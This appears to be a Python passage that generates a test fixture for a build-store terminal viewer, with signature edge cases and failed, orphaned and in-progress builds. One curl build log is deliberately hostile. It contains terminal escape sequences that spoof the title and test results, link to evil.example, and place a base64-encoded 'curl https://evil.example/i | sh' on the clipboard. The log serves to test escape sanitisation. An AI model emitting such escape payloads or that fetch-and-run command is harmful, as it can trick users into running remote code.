    bootstrap = w.make_path("bootstrap-tools")
    sources["bootstrap-tools"] = bootstrap
    # A source object may refer to itself (spec §2, IsSourceContentAddress).
    w.add_object(
        bootstrap, _jitter(rng, 85_000_000), f"fixed:r:sha256:{_nix32_sha256(rng)}", [bootstrap]
    )
    for script, size in (("builder.sh", 1_240), ("setup.sh", 41_800)):
        path = w.make_path(script)
        sources[script] = path
        body = f"#!/bin/bash\n# {script} of the zbtui demo store\nset -eu\n".encode()
        w.add_object(
            path, size, f"fixed:r:sha256:{_nix32_sha256(rng)}", [], content=body, directory=False
        )

    pkg_by_name = {p.name: p for p in _PACKAGES}
    drv_paths: dict[str, str] = {}
    drv_hashes: dict[str, int] = {}
    out_paths: dict[str, dict[str, str]] = {}
    fetch_drvs: dict[str, tuple[str, int, str]] = {}  # pkg -> (drv path, hash id, tarball path)

    def resolve(pkg: _Pkg, token: str, self_path: str) -> str:
        if token == "self":
            return self_path
        if token.startswith("src:"):
            return sources[token[4:]]
        name, output = token.rsplit(":", 1)
        return out_paths[name][output]

    realized: list[tuple[str, str, int, str, list[tuple[str, int | None, str | None]]]] = []
    producers: dict[str, tuple[int, str]] = {}  # output path -> (drv hash id, output name)

    for pkg in _PACKAGES:
        # Tarball: a source object, or the output of a fixed-output fetch drv.
        tar_path: str | None = None
        fetch_drv: str | None = None
        if pkg.tarball is not None:
            tar_path = w.make_path(pkg.tarball)
            sources[pkg.tarball] = tar_path
            tar_size = _jitter(rng, max(200_000, min(pkg.outputs["out"] // 3, 140_000_000)))
            on_disk = f"tarball:{pkg.name}" not in _NOT_ON_DISK
            if pkg.flat_fetch:
                fetch_drv = w.make_path(pkg.tarball + ".drv")
                url = f"https://mirrors.example.org/{pkg.tarball}"
                w.add_object(
                    fetch_drv,
                    _jitter(rng, 900),
                    f"text:sha256:{_nix32_sha256(rng)}",
                    [],
                    content=_drv_text(
                        pkg.tarball,
                        ["out"],
                        {},
                        [],
                        "builtin:fetchurl",
                        [],
                        {"name": pkg.tarball, "url": url, "out": ""},
                    ),
                    directory=False,
                )
                w.add_object(
                    tar_path,
                    tar_size,
                    f"fixed:sha256:{_nix32_sha256(rng)}",
                    [],
                    content=rng.randbytes(512),
                    directory=False,
                    on_disk=on_disk,
                )
                fh = w.drv_hash(rng.randbytes(32))
                fetch_drvs[pkg.name] = (fetch_drv, fh, tar_path)
                # Fixed-output realizations have no reference classes (spec §8).
                w.add_realization(fh, "out", tar_path, [])
                msg = w.message(fh, "out", tar_path, [])
                w.add_signature(
                    fh,
                    "out",
                    tar_path,
                    trusted_key,
                    sign_zb_realization(TRUSTED_SEED, msg),
                    "trusted",
                )
            else:
                w.add_object(
                    tar_path,
                    tar_size,
                    f"fixed:r:sha256:{_nix32_sha256(rng)}",
                    [],
                    content=rng.randbytes(512),
                    directory=False,
                    on_disk=on_disk,
                )

        # The .drv: references its input drvs and its sources.
        drv_path = w.make_path(pkg.name + ".drv")
        drv_paths[pkg.name] = drv_path
        input_drvs = {drv_paths[i]: tuple(pkg_by_name[i].outputs) for i in pkg.inputs}
        if fetch_drv is not None:
            input_drvs[fetch_drv] = ("out",)
        drv_sources = [bootstrap, sources["builder.sh"]]
        drv_sources += [sources[s] for s in pkg.extra_sources]
        if tar_path is not None and fetch_drv is None:
            drv_sources.append(tar_path)
        env = {"name": pkg.name, "system": "x86_64-linux", "builder": f"{bootstrap}/bin/bash"}
        env.update({o: "" for o in pkg.outputs})
        drv_refs = sorted(set(input_drvs) | set(drv_sources))
        w.add_object(
            drv_path,
            _jitter(rng, 1_800 + 350 * len(drv_refs)),
            f"text:sha256:{_nix32_sha256(rng)}",
            drv_refs,
            content=_drv_text(
                pkg.name,
                list(pkg.outputs),
                input_drvs,
                drv_sources,
                f"{bootstrap}/bin/bash",
                ["-e", sources["builder.sh"]],
                env,
            ),
            directory=False,
            on_disk=f"drv:{pkg.name}" not in _NOT_ON_DISK,
        )
        dh = w.drv_hash(rng.randbytes(32))
        drv_hashes[pkg.name] = dh

        # Outputs. The input closure bounds which references get reference classes.
        input_roots = [p for i in pkg.inputs for p in out_paths[i].values()] + drv_sources
        if tar_path is not None:
            input_roots.append(tar_path)
        input_closure = set(_closure(w.refs, input_roots))
        out_paths[pkg.name] = {}
        for output in pkg.outputs:
            path = w.make_path(_output_object_name(pkg, output))
            out_paths[pkg.name][output] = path
        # Insert outputs referenced by a sibling first ("references" is checked
        # immediately: gcc's out refers to its lib).
        order = sorted(
            pkg.outputs,
            key=lambda o: -sum(t == f"{pkg.name}:{o}" for ts in pkg.runtime.values() for t in ts),
        )
        for output in order:
            size = pkg.outputs[output]
            path = out_paths[pkg.name][output]
            refs = [resolve(pkg, t, path) for t in pkg.runtime[output]]
            w.add_object(
                path,
                _jitter(rng, size),
                f"fixed:r:sha256:{_nix32_sha256(rng)}",
                refs,
                on_disk=f"{pkg.name}:{output}" not in _NOT_ON_DISK,
            )
            classes: list[tuple[str, int | None, str | None]] = []
            for ref in refs:
                if ref == path:
                    continue  # no reference class for a self-reference
                if ref in producers:
                    classes.append((ref, *producers[ref]))
                elif ref in input_closure:
                    classes.append((ref, None, None))  # a source
            realized.append((pkg.name, output, dh, path, classes))
        for output, path in out_paths[pkg.name].items():
            producers[path] = (dh, output)

    # ---- realizations and signatures ---------------------------------------
    cases: dict[str, str] = {}
    for name, output, dh, path, classes in realized:
        rows = list(classes)
        if name == "stdenv-linux":
            # Recorded twice by the realization code: the NULL/NULL row is
            # duplicated because the unique index treats NULLs as distinct.
            rows += [c for c in classes if c[1] is None]
            facts["duplicate_null_reference_class"] = {
                "referrer": path,
                "reference": sources["setup.sh"],
            }
        w.add_realization(dh, output, path, rows)
        msg = w.message(dh, output, path, classes)
        good = sign_zb_realization(TRUSTED_SEED, msg)
        key = f"{name}:{output}"
        if name in _IMPORTED:
            w.add_signature(
                dh,
                output,
                path,
                untrusted_key,
                sign_zb_realization(UNTRUSTED_SEED, msg),
                "valid-untrusted",
            )
            cases.setdefault("untrusted_only", path)
        elif key == "xz-5.4.6:out":
            bad = bytearray(good)
            bad[17] ^= 0x20
            w.add_signature(dh, output, path, trusted_key, bytes(bad), "invalid")
            cases["tampered"] = path
        elif key == "expat-2.6.2:out":
            w.add_signature(dh, output, path, None, None, "malformed")
            cases["malformed"] = path
        else:
            w.add_signature(dh, output, path, trusted_key, good, "trusted")
            if key == "zlib-1.3.1:out":
                w.add_signature(dh, output, path, trusted_key, good, "trusted")
                cases["duplicate"] = path
            elif key == "libffi-3.4.6:out":
                w.add_signature(dh, output, path, nonsense_key, rng.randbytes(72), "unsupported")
                cases["unsupported"] = path
            elif key == "glibc-2.39:out":
                w.add_signature(
                    dh,
                    output,
                    path,
                    untrusted_key,
                    sign_zb_realization(UNTRUSTED_SEED, msg),
                    "valid-untrusted",
                )
                cases["both_keys"] = path

    # hello's out realized a second time, non-reproducibly, by a binary cache:
    # same (drv_hash, output_name), another path, never downloaded.
    hello_dh = drv_hashes["hello-2.12.1"]
    hello_a = out_paths["hello-2.12.1"]["out"]
    hello_b = w.make_path("hello-2.12.1")
    glibc_out = out_paths["glibc-2.39"]["out"]
    glibc_class = (glibc_out, drv_hashes["glibc-2.39"], "out")
    w.add_realization(hello_dh, "out", hello_b, [glibc_class])
    w.add_signature(
        hello_dh,
        "out",
        hello_b,
        untrusted_key,
        sign_zb_realization(UNTRUSTED_SEED, w.message(hello_dh, "out", hello_b, [glibc_class])),
        "valid-untrusted",
    )

    # An older hello whose drv and output were deleted: paths, realization and
    # signature remain, objects rows are gone.
    old_drv = w.make_path("hello-2.12.drv")
    old_out = w.make_path("hello-2.12")
    old_dh = w.drv_hash(rng.randbytes(32))
    w.path_id(old_drv)
    w.add_realization(old_dh, "out", old_out, [glibc_class])
    w.add_signature(
        old_dh,
        "out",
        old_out,
        trusted_key,
        sign_zb_realization(TRUSTED_SEED, w.message(old_dh, "out", old_out, [glibc_class])),
        "trusted",
    )

    # ---- builds ------------------------------------------------------------
    tool_paths = {
        "coreutils": out_paths["coreutils-9.4"]["out"],
        "gcc": out_paths["gcc-13.2.0"]["out"],
        "bash": out_paths["bash-5.2p26"]["out"],
    }

    def log_for(pkg_name: str, out_path: str, *, tarball: str | None = None) -> bytes:
        paths = dict(tool_paths)
        paths["src"] = tarball or sources.get(pkg_by_name[pkg_name].tarball or "", pkg_name)
        return ("\n".join(build_log_lines(pkg_name, out_path, paths, rng)) + "\n").encode()

    def outputs_of(name: str) -> dict[str, str | None]:
        return dict(out_paths[name])

    def reused(name: str) -> _Result:
        return _Result(drv_paths[name], "reused", drv_hashes[name], outputs_of(name))

    def built(name: str, log: bytes | None = None) -> _Result:
        pkg = pkg_by_name[name]
        return _Result(
            drv_paths[name],
            "built",
            drv_hashes[name],
            outputs_of(name),
            log=log if log is not None else log_for(name, out_paths[name]["out"]),
            builder_s=pkg.builder_s,
        )

    build_ids: dict[str, Any] = {"orphaned": [], "fail": [], "error": []}
    status_counts = {"success": 0, "fail": 0, "error": 0, "active": 0}
    kinds = {"built": 0, "reused": 0, "fail": 0, "error": 0, "active": 0}
    specials: dict[str, str] = {}

    def add(
        start: int, results: list[_Result], status: str, **kw: Any
    ) -> tuple[str, int, list[int]]:
        info = w.add_build(start, results, **kw)
        status_counts[status] += 1
        for r in results:
            kinds[r.kind if r.kind != "queued" else "active"] += 1
        return info

    # 1. Pre-04 build (oldest): results carry no drv_hash.
    pre = _Result(old_drv, "built", None, {"out": old_out}, builder_s=24)
    pre.log = log_for("hello-2.12.1", old_out).replace(b"2.12.1", b"2.12")
    bid, _, rids = add(now_ms - 5 * _DAY - 3 * _HOUR, [pre], "success")
    build_ids["pre04"] = bid
    facts["pre04_result_ids"] = rids

    # 2. The "world" build: everything from scratch, except cache substitutions.
    world: list[_Result] = []
    for pkg in _PACKAGES:
        if pkg.name in fetch_drvs:
            fdrv, fh, tpath = fetch_drvs[pkg.name]
            url = f"https://mirrors.example.org/{pkg.tarball}"
            fetch_log = (
                f"downloading '{url}'...\n{_GREEN}download complete{_RESET}: {tpath}\n"
            ).encode()
            world.append(_Result(fdrv, "built", fh, {"out": tpath}, log=fetch_log, builder_s=3))
        if pkg.name in _IMPORTED:
            world.append(reused(pkg.name))
        elif pkg.name == "ncurses-6.4":
            log = log_for(pkg.name, out_paths[pkg.name]["out"])
            # A test prints Latin-1 text: builder output is raw bytes, not UTF-8.
            log = log.replace(
                b"running tests\n", b"running tests\ntest: caf\xe9 cr\xe8me br\xfbl\xe9e \xff\xfe\n"
            )
            specials["non_utf8"] = drv_paths[pkg.name]
            world.append(built(pkg.name, log))
        else:
            world.append(built(pkg.name))
    bid, _, _ = add(now_ms - 4 * _DAY - 22 * _HOUR, world, "success", result_gap_ms=2_000)
    build_ids["world"] = bid
    facts["non_utf8_log"] = log_path_for(w.log_dir, bid, specials["non_utf8"])

    # 3. Orphans: builds a crashed server left behind (ended_at NULL, results active).
    py = "python3-3.11.9"
    orphan1 = [
        reused("stdenv-linux"),
        reused("openssl-3.0.13"),
        _Result(
            drv_paths[py],
            "active",
            drv_hashes[py],
            dict.fromkeys(pkg_by_name[py].outputs),
            log=b"\n".join(log_for(py, out_paths[py]["out"]).split(b"\n")[:23]),
        ),
    ]
    bid, _, _ = add(now_ms - 3 * _DAY - 5 * _HOUR, orphan1, "active", end=False)
    build_ids["orphaned"].append(bid)
    orphan2 = [
        _Result(
            drv_paths["curl-8.7.1"],
            "queued",
            drv_hashes["curl-8.7.1"],
            dict.fromkeys(pkg_by_name["curl-8.7.1"].outputs),
        )
    ]
    bid, _, _ = add(now_ms - 2 * _DAY - 2 * _HOUR, orphan2, "active", end=False)
    build_ids["orphaned"].append(bid)

    # 4. Everyday builds: everything reused from earlier realizations.
    targets = [
        "hello-2.12.1",
        "curl-8.7.1",
        "python3-3.11.9",
        "bash-5.2p26",
        "zlib-1.3.1",
        "sqlite-3.45.1",
        "coreutils-9.4",
        "openssl-3.0.13",
    ]
    starts = sorted(now_ms - rng.randint(4 * _HOUR, 4 * _DAY + 12 * _HOUR) for _ in range(21))
    for start in starts:
        target = rng.choice(targets)
        deps = [i for i in pkg_by_name[target].inputs if i != "stdenv-linux"]
        results = [reused(d) for d in rng.sample(deps, k=min(len(deps), rng.randint(0, 3)))]
        results.append(reused(target))
        add(start, results, "success")

    # 5. Failures: non-zero exit; an output not produced.
    curl = "curl-8.7.1"
    hostile = log_for(curl, out_paths[curl]["out"]).split(b"running tests\n")[0]
    hostile += (
        b"running tests\n"
        b"test 0001...[HTTP GET]\n"
        # A test server echoes what an attacker controls: title change, OSC 52
        # clipboard write, screen clear, cursor movement, a bell.
        b"\x1b]0;zb build succeeded\x07"
        b"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pIHwgc2g=\x07"
        b"\x1b[2J\x1b[H\x1b[5A\x1b[10;20Hall tests passed\x1b[?25l\x07\n"
        b"\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\\n"
        + _RED.encode()
        + b"FAIL"
        + _RESET.encode()
        + b": test 1592 (HTTP GET with --fail-with-body)\n"
        b"TESTFAIL: These test cases failed: 1592\n"
        b"make[2]: *** [Makefile:1012: quiet-test] Error 1\n"
        b"make[1]: *** [Makefile:1446: test] Error 2\n"
        b"make: *** [Makefile:1893: check-recursive] Error 1\n"
        b"*** Build failed: exit status 2\n"
    )
    fail1 = [
        reused("openssl-3.0.13"),
        reused("zlib-1.3.1"),
        _Result(
            drv_paths[curl],
            "fail",
            drv_hashes[curl],
            dict.fromkeys(pkg_by_name[curl].outputs),
            log=hostile,
            builder_s=95,
        ),
    ]
    bid, _, _ = add(now_ms - 1 * _DAY - 6 * _HOUR, fail1, "fail")
    build_ids["fail"].append(bid)
    facts["hostile_log"] = log_path_for(w.log_dir, bid, drv_paths[curl])

    py_log = log_for(py, out_paths[py]["out"]).split(b"installing\n")[0]
    py_log += b"installing\ninstall: cannot create directory: Read-only file system\n"
    py_log += b"*** Build failed: builder failed to produce output $out\n"
    fail2 = [
        reused("stdenv-linux"),
        _Result(drv_paths[py], "fail", drv_hashes[py], {"out": None}, log=py_log, builder_s=540),
    ]
    bid, _, _ = add(now_ms - 20 * _HOUR, fail2, "fail")
    build_ids["fail"].append(bid)

    # 6. Errors: a result that hit an internal error; a build-level error.
    sq = "sqlite-3.45.1"
    sq_log = log_for(sq, out_paths[sq]["out"]).split(b"post-installation fixup\n")[0]
    sq_log += b"*** Build failed\n"
    sq_log += (
        f"zb internal error: post-process {out_paths[sq]['out']}: "
        "scan internal error: could not find digest in inputs\n"
    ).encode()
    err1 = [
        reused("zlib-1.3.1"),
        _Result(
            drv_paths[sq],
            "error",
            drv_hashes[sq],
            dict.fromkeys(pkg_by_name[sq].outputs),
            log=sq_log,
            builder_s=130,
        ),
    ]
    # The build-level error is the "realization did not complete" sentinel, so
    # internal_error stays NULL; the status comes from the result.
    bid, _, _ = add(now_ms - 1 * _DAY - 1 * _HOUR, err1, "error")
    build_ids["error"].append(bid)
    bid, _, _ = add(
        now_ms - 10 * _HOUR,
        [reused("stdenv-linux")],
        "error",
        internal_error=f"realize {old_drv}: open {old_drv}: no such file or directory",
    )
    build_ids["error"].append(bid)
    build_ids["internal_error"] = bid

    # 7. An expand build (zb.expand of hello): inputs realized, builder not run.
    hello_pkg = pkg_by_name["hello-2.12.1"]
    expand_env = {
        "PATH": "/path-not-set",
        "builder": f"{bootstrap}/bin/bash",
        "name": hello_pkg.name,
        "out": hello_a,
        "src": sources["hello-2.12.1.tar.gz"],
        "stdenv": out_paths["stdenv-linux"]["out"],
        "system": "x86_64-linux",
        "ZB_BUILD_TOP": "/build",
    }
    bid, _, _ = add(
        now_ms - 6 * _HOUR,
        [reused("stdenv-linux")],
        "success",
        expand=(f"{bootstrap}/bin/bash", ["-e", sources["builder.sh"]], expand_env),
    )
    build_ids["expand"] = bid

    # 8. A recent build that ran a builder again (reproducible: same output path).
    bid, _, _ = add(now_ms - 3 * _HOUR, [reused("stdenv-linux"), built("gnumake-4.4.1")], "success")
    build_ids["rebuild"] = bid

    # 9. The build in progress right now: builder running, log still growing,
    # NULL-output placeholders, last line unterminated.
    partial = (
        b"\n".join(log_for(py, out_paths[py]["out"]).split(b"\n")[:31]) + b"\n  CC       src/pyth"
    )
    active = [
        reused("stdenv-linux"),
        reused("openssl-3.0.13"),
        _Result(drv_paths[py], "active", drv_hashes[py], {"out": None}, log=partial),
    ]
    bid, _, _ = add(now_ms - 45_000, active, "active", end=False)
    build_ids["active"] = bid
    facts["active_log"] = log_path_for(w.log_dir, bid, drv_paths[py])

    # ---- heartbeat -----------------------------------------------------------
    running_as_of: int | None = None
    if heartbeat == "alive":
        running_as_of = now_ms - HEARTBEAT_ALIVE_AGE_MS
    elif heartbeat == "stale":
        running_as_of = now_ms - HEARTBEAT_STALE_AGE_MS
    elif heartbeat != "none":
        raise ValueError(f"heartbeat must be alive, stale or none, not {heartbeat!r}")
    if running_as_of is not None:
        w.conn.execute(
            'insert into "running_server" ("running_as_of") values (?)', (running_as_of,)
        )

    # ---- facts -----------------------------------------------------------------
    absent = sorted(p for p in w.path_ids if p not in w.objects)
    self_refs = sorted(p for p, refs in w.refs.items() if p in refs)
    closures = {}
    for name in ("hello-2.12.1", "bash-5.2p26", "curl-8.7.1", "python3-3.11.9"):
        top = out_paths[name]["out"]
        members = _closure(w.refs, [top])
        closures[top] = {"count": len(members), "nar_size": sum(w.objects[m] for m in members)}
    facts.update(
        {
            "counts": {
                "paths": len(w.path_ids),
                "objects": len(w.objects),
                "references": sum(len(r) for r in w.refs.values()),
                "drv_hashes": len(w.drv_hash_ids),
                "realizations": len(w.realizations),
                "reference_classes": w.rc_rows,
                "builds": w.build_count,
                "build_results": w.result_count,
                "build_outputs": w.output_rows,
                "signature_public_keys": len(w.key_ids),
                "signatures": w.sig_rows,
                "running_server": 0 if running_as_of is None else 1,
                "log_files": len(w.log_files),
            },
            "packages": {
                name: {
                    "drv": drv_paths[name],
                    "drv_hash_b64": _b64(w.drv_hash_bits[drv_hashes[name]]),
                    "outputs": dict(out_paths[name]),
                }
                for name in drv_paths
            },
            "sources": dict(sources),
            "absent_paths": absent,
            "not_on_disk": sorted(w.not_on_disk),
            "self_referencing": self_refs,
            "self_reference_path": glibc_out,
            "shared_base": glibc_out,
            "shared_base_referrers": sum(
                1 for p, r in w.refs.items() if p != glibc_out and glibc_out in r
            ),
            "closures": closures,
            "chain": [
                out_paths[n]["out"]
                for n in ("bash-5.2p26", "readline-8.2", "ncurses-6.4", "glibc-2.39")
            ],
            "multi_path_realization": {
                "drv_hash_b64": _b64(w.drv_hash_bits[hello_dh]),
                "output_name": "out",
                "paths": sorted([hello_a, hello_b]),
                "present": hello_a,
                "absent": hello_b,
            },
            "absent_realization_outputs": sorted([hello_b, old_out]),
            "fixed_output_realizations": sorted(t for _, _, t in fetch_drvs.values()),
            "signature_statuses": dict(w.sig_status),
            "signature_cases": cases,
            "builds": {"total": w.build_count, "by_status": status_counts},
            "build_ids": build_ids,
            "orphaned_build_id": build_ids["orphaned"][0],
            "active_build_id": build_ids["active"],
            "result_kinds": kinds,
            "log_files": sorted(w.log_files),
            "heartbeat": running_as_of,
        }
    )
